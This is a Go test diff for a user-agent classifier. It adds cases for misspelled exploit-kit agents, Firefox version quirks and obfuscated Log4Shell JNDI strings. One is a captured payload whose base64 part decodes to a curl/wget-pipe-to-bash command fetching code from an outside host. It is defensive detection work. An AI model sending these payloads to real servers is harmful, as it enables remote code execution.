@@ -206,6 +206,16 @@ func TestClassifyAgent(t *testing.T) {
 		{chromeWin + " ${jndi:ldap://x.example/a}", Tool, "Log4Shell"}, // an exploit, not a browser: TestExploitAgent
 		{chromeWin + strings.Repeat(" A", 5*1024), Suspicious, "Chrome"},
 		{chromeWin + "\x1b[31m", Suspicious, "Chrome"},
+		// Misspelled by the scripts that copied them: exploit kits' "Mozlila"
+		// and "Bulid", a DVR exploit's "Mozila/5.0" (Daniloday/ubuntu
+		// access.log.2); a Firefox whose rv: and version disagree, asking for
+		// /testproxy.php (the nginx log quoted in a blog post on AWS ELB).
+		{"Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36", Suspicious, "Chrome Mobile WebView"},
+		{"Mozila/5.0", Unknown, "Mozila"},
+		{"Mozilla/5.0 (Windows NT 5.1; rv:32.0) Gecko/20100101 Firefox/31.0", Suspicious, "Firefox"},
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0", Browser, "Firefox"}, // rv frozen at 109 for 110 to 119
+		{"Mozilla/5.0 (Windows NT 6.1; rv:2.0.1) Gecko/20100101 Firefox/4.0.1", Browser, "Firefox"},            // Firefox 4 said rv:2.0
+		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.5; rv:10.0.1) Gecko/20100101 Firefox/10.0.1 SeaMonkey/2.7.1", Browser, "Firefox"},
 
 		// Not a browser at all.
 		{"Hello World", Unknown, "Hello World"},
@@ -236,6 +246,12 @@ func TestExploitAgent(t *testing.T) {
 		{"${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldA==}", "Log4Shell"},
 		{"Mozilla/5.0 ${jndi:ldap://198.51.100.7/a}", "Log4Shell"},
 		{"Mozilla/5.0 ${JNDI:ldap://198.51.100.7/a}", "Log4Shell"},
+		// Obfuscated: a User-agent captured in December 2021 from
+		// 45.155.205.233 (a packet capture of a CTF write-up), and the
+		// nested forms scanners send.
+		{"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://45.155.205.233:12344/Basic/Command/Base64/KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC8xNjIuMC4yMjguMjUzOjgwfHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0LzE2Mi4wLjIyOC4yNTM6ODApfGJhc2g=}", "Log4Shell"},
+		{"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.7/a}", "Log4Shell"},
+		{"Mozilla/5.0 ${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://198.51.100.7/a}", "Log4Shell"},
 	}
 	var c Classifier
 	for _, tt := range tests {
